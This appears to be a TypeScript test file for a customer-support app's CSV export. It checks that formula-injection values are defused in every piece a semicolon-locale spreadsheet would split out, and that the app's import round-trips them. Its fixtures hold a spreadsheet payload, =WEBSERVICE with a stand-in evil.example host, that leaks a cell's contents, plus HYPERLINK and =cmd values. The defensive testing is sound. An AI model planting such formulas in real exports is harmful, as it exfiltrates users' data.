/**
 * CSV injection beyond the first character: Excel set to `;` as its list separator (German, French
 * locales) splits a cell at `;` (and other readers at tabs and line breaks), so a forged reply text or
 * a tag list must not carry a formula in any piece. And whatever the export defuses, Careline's own
 * import reads back as it was.
 */
import 'fake-indexeddb/auto';
import { describe, expect, it } from 'vitest';
import { csvCell, csvRow, exportCustomersCsv, exportEventsCsv } from '@/utils/customers/export';
import { parseCsv } from './parse-csv';
import { backupRepo } from '@/utils/db/backup-repo';
import { customersRepo, type CustomerInput } from '@/utils/db/customers-repo';
import { eventsRepo } from '@/utils/db/events-repo';
import { freshDbs } from '../fresh-db';

const VIP_TAGS = 'vip;=1+1';
const FORGED_REPLY = 'Thanks for waiting!;=WEBSERVICE("https://evil.example/?leak="&A2)';
const FORMULA_START = /^[=+\-@\t\r\n\0\uFF1D\uFF0B\uFF0D\uFF20]/;

/**
 * What a reader that ignores the quotes sees as cells of their own: the text split at `;`, tabs and
 * line breaks (Excel with `;` as list separator splits a comma file's line at every `;`), each piece
 * as the spreadsheet gets it (a stray quote mark at its start dropped).
 */
function piecesSeenWithoutQuotes(csvText: string): string[] {
  return csvText.split(/[;,\t\r\n]+/).map((piece) => piece.replace(/^"+/, ''));
}

const freshDb = freshDbs();

describe('every cell quoted, every ;- or tab-separated piece defused', () => {
  it.each([
    [VIP_TAGS, `"vip;'=1+1"`],
    [FORGED_REPLY, `"Thanks for waiting!;'=WEBSERVICE(""https://evil.example/?leak=""&A2)"`],
    ['ok\t@SUM(A1)', `"ok\t'@SUM(A1)"`],
    ['a;;  -2', `"a;;  -2"`],
    ['a;\t+1', `"a;\t'+1"`],
    ['note\r\n=cmd', `"note\r\n'=cmd"`],
    ["a;'=x", `"a;''=x"`],
    ['=1;+2', `"'=1;'+2"`],
    ['plain', '"plain"'],
    ['김민지', '"김민지"'],
    ['', '""'],
  ])('%j → %s', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('leaves no formula at the start of any piece a `;`-locale Excel would see', () => {
    const row = csvRow(['evil', VIP_TAGS, FORGED_REPLY, 'x\t=2', '=3']);
    const risky = piecesSeenWithoutQuotes(row).filter((piece) => FORMULA_START.test(piece));
    expect(risky).toEqual([]);
  });
});

describe('exports with the attack values', () => {
  it('customers: tags `vip;=1+1` and a forged note go out quoted and defused, and import back as they were', async () => {
    const db = freshDb();
    const customers: CustomerInput[] = [
      {
        handle: 'evil',
        name: 'Evil;=HYPERLINK("https://evil.example")',
        phone: '+82 10-0000-0000',
        tags: ['vip', '=1+1'],
        note: FORGED_REPLY,
        attributes: { '=cmd': 'a;@b', memo: "'=kept" },
      },
      { handle: 'minji_kim', name: '김민지', tags: ['vip', '유심'], attributes: {} },
    ];
    await customersRepo(db).upsertMany(customers);
    const text = new TextDecoder().decode(
      await (await exportCustomersCsv({ repo: backupRepo(db) })).blob.arrayBuffer(),
    );
    expect(text).toContain(`"vip;'=1+1"`);
    expect(text).toContain(`"Thanks for waiting!;'=WEBSERVICE(""https://evil.example/?leak=""&A2)"`);
    expect(piecesSeenWithoutQuotes(text).filter((piece) => FORMULA_START.test(piece))).toEqual([]);

    // Careline's own import: every value exactly as it was exported.
    const { rows, problems } = parseCsv(text);
    expect(problems).toEqual([]);
    expect(rows).toEqual([
      {
        handle: 'evil',
        name: 'Evil;=HYPERLINK("https://evil.example")',
        phone: '+82 10-0000-0000',
        tags: ['vip', '=1+1'],
        note: FORGED_REPLY,
        attributes: { '=cmd': 'a;@b', memo: "'=kept" },
      },
      { handle: 'minji_kim', name: '김민지', tags: ['vip', '유심'] },
    ]);
  });

  it('history: a forged reply text with `;=WEBSERVICE(…)` goes out defused', async () => {
    const db = freshDb();
    await eventsRepo(db).bulkAdd([
      { customerHandle: 'evil', kind: 'reply-sent', at: '2026-11-29T01:00:00.000Z', text: FORGED_REPLY },
    ]);
    const text = new TextDecoder().decode(await (await exportEventsCsv({ repo: backupRepo(db) })).blob.arrayBuffer());
    expect(text.split('\r\n')[1]).toBe(
      `"evil","2026-11-29T01:00:00.000Z","reply-sent","","","","","Thanks for waiting!;'=WEBSERVICE(""https://evil.example/?leak=""&A2)"`,
    );
    expect(piecesSeenWithoutQuotes(text).filter((piece) => FORMULA_START.test(piece))).toEqual([]);
  });
});
